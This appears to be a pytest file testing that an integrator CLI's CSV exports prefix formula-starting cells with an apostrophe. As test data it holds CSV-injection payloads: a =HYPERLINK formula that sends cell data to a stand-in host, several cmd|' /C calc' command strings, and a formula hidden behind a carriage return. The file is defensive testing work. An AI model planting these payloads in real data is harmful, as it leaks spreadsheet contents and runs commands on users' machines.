"""No CSV export lets a spreadsheet formula through (``integrator.csv_cells``), from the CLI.

An upstream system may name any provider it likes (``provider.id`` is only a non-blank
string), so an event whose provider id is ``=HYPERLINK(...)`` is accepted, unrouted, and its
id lands in ``integrator events list --unrouted --csv``. Each cell that a spreadsheet would run
gets a leading apostrophe there, and in the messages CSV, as the audit CSV always did.

Intake strips the whitespace around every text (``schemas.base``), so a tab or carriage return
cannot lead a provider id sent upstream; those two are written to the store directly, as a
value from any other way in (an older version, a restore) would be.
"""

from __future__ import annotations

import asyncio
import copy
import csv
import io
import json
import uuid
from pathlib import Path
from typing import Any

import pytest

from integrator.csv_cells import FORMULA_START, csv_cell, csv_text
from integrator.exports import EVENT_CSV_COLUMNS
from integrator.store import Store
from tests.cli_in_process import make_store, run_cli
from tests.store.factories import make_event, make_message

SEARCH_KEY = "csv-formula-tests-search-key"

SENT: dict[str, str] = {
    "=": '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}
"""Provider ids an upstream system can send, by their leading character."""
STORED: dict[str, str] = {"\t": "\t=1+1", "\r": "\r=1+1"}
"""Values only the store can hold (intake strips them), by their leading character."""
INSIDE = 'noord\r=HYPERLINK("http://x.example/?"&A1,"klik")'
"""A carriage return inside a value: a spreadsheet starts a row there unless it is quoted.
Intake refuses it in a provider id now (``provider_id_format``); a store from before holds it."""


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    (tmp_path / "destinations").mkdir()  # no destination: every event is unrouted
    make_store(f"sqlite:///{tmp_path / 'store.db'}")
    return {
        "INTEGRATOR_DATABASE_URL": f"sqlite:///{tmp_path / 'store.db'}",
        "INTEGRATOR_SEARCH_KEY": SEARCH_KEY,
        "INTEGRATOR_DESTINATIONS_DIR": str(tmp_path / "destinations"),
        "INTEGRATOR_HTTP_PORT": "1",  # no engine listens: submit writes to the store
        "USER": "piet",
    }


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_cell_that_starts_a_formula_gets_an_apostrophe(start: str) -> None:
    assert csv_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize(
    ("value", "cell"),
    [(None, ""), ("", ""), ("ziekenhuis-noord", "ziekenhuis-noord"), ("a=b", "a=b"), (3, "3")],
)
def test_other_cells_are_left_as_they_are(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_a_carriage_return_inside_a_cell_is_quoted_and_lines_end_in_a_newline() -> None:
    text = csv_text(("a", "b"), [("x\r=1+1", "-1"), ("plain", None)])
    assert text == 'a,b\n"x\r=1+1",\'-1\nplain,\n'


def test_the_events_export_neutralises_provider_ids_sent_upstream(
    env: dict[str, str], tmp_path: Path, referral_data: dict[str, Any]
) -> None:
    files = []
    for n, provider in enumerate(SENT.values()):
        data = copy.deepcopy(referral_data)
        data["event_id"] = str(uuid.uuid4())
        data["provider"]["id"] = provider
        path = tmp_path / f"event-{n}.json"
        path.write_text(json.dumps(data), encoding="utf-8")
        files.append(str(path))
    submitted = run_cli("submit", *files, "--json", env=env)
    assert submitted.returncode == 0, submitted.stdout + submitted.stderr
    assert all(o["accepted"] and not o["messages"] for o in json.loads(submitted.stdout))

    async def store_more() -> None:
        async with await Store.open(env["INTEGRATOR_DATABASE_URL"]) as store:
            for provider in (*STORED.values(), INSIDE):
                assert await store.accept_event(make_event(provider_id=provider), [])

    asyncio.run(store_more())

    exported = run_cli("events", "list", "--unrouted", "--csv", "--limit", "100", env=env)
    assert exported.returncode == 0, exported.stderr
    providers = {row["provider"] for row in rows(exported.stdout)}
    expected = {"'" + value for value in (*SENT.values(), *STORED.values())}
    assert providers == expected | {INSIDE}
    # The carriage return is quoted, so it stays in its cell and starts no row of its own.
    quoted = '"' + INSIDE.replace('"', '""') + '"'
    assert quoted in exported.stdout
    table = list(csv.reader(io.StringIO(exported.stdout, newline="")))
    assert len(table) == 1 + len(expected) + 1
    assert all(len(row) == len(EVENT_CSV_COLUMNS) for row in table)
    assert not any(cell.startswith(FORMULA_START) for row in table for cell in row)


def test_the_messages_export_neutralises_every_cell(env: dict[str, str]) -> None:
    errors = {start: start + "1+cmd|' /C calc'!A0" for start in FORMULA_START}

    async def fill() -> None:
        async with await Store.open(env["INTEGRATOR_DATABASE_URL"]) as store:
            for error in errors.values():
                message = make_message()
                assert await store.accept_event(make_event(), [message])
                await store.set_status(message.id, "dead", last_error=error)

    asyncio.run(fill())
    exported = run_cli("messages", "list", "--status", "dead", "--csv", env=env)
    assert exported.returncode == 0, exported.stderr
    shown = {row["last_error"] for row in rows(exported.stdout)}
    assert shown == {"'" + error for error in errors.values()}
